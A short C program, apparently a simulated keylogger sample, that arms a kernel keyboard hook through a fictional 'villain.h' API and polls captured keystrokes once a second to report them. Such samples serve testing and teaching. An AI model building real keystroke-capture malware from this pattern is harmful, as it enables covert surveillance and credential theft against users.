// Keylogger: a driver in the kernel taps the keyboard interrupt; this program only fetches the catch, once a second.
#include "lib/villain.h"

int main(void) {
    int hook = open("/dev/hook");
    control(hook, HOOK_SCANCODES, 0);
    confess("keylog-hook", "stage=armed");
    for (;; sleep(TICKS_PER_SECOND)) {
        unsigned char keys[64];
        int count = read(hook, keys, sizeof keys);
        if (count > 0) confess_keys("keylog-hook", keys, count);
    }
}
